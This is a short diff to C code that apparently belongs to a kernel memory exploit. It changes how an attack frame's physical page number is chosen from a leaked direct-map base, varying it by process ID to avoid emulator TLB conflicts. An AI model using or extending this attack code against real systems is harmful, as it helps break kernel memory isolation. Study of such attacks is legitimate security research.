@@ -21,7 +21,8 @@
 enum {
 	FRAMES_PER_HUGE = BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE,
 	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
-	CHOSEN_FRAME = 300, /* any but the first ones */
+	CHOSEN_FRAMES = 300, /* any but the first ones: from here on */
+	CHOSEN_STEP = 13,
 	SHARE_LEFT = 8,
 	SHARE_KEPT = 32,
 	HALVES_MAX = 16,
@@ -92,9 +93,12 @@ static struct huge_page huge_page_take(void)
 	return page;
 }
 
+/* Another one in each try: in an emulator's TLB an entry has one place, which the kernel's own pages
+ * may have, too. */
 static void choose(const struct bw_leak *leak, uint64_t first_pfn, struct attack_frame *frame)
 {
-	frame->pfn = first_pfn + CHOSEN_FRAME;
+	frame->pfn = first_pfn + CHOSEN_FRAMES +
+		     (uint64_t)getpid() * CHOSEN_STEP % (FRAMES_PER_HUGE - CHOSEN_FRAMES);
 	frame->synonym = leak->direct_map_base + frame->pfn * BW_PAGE_SIZE;
 	frame->is_small = false;
 }
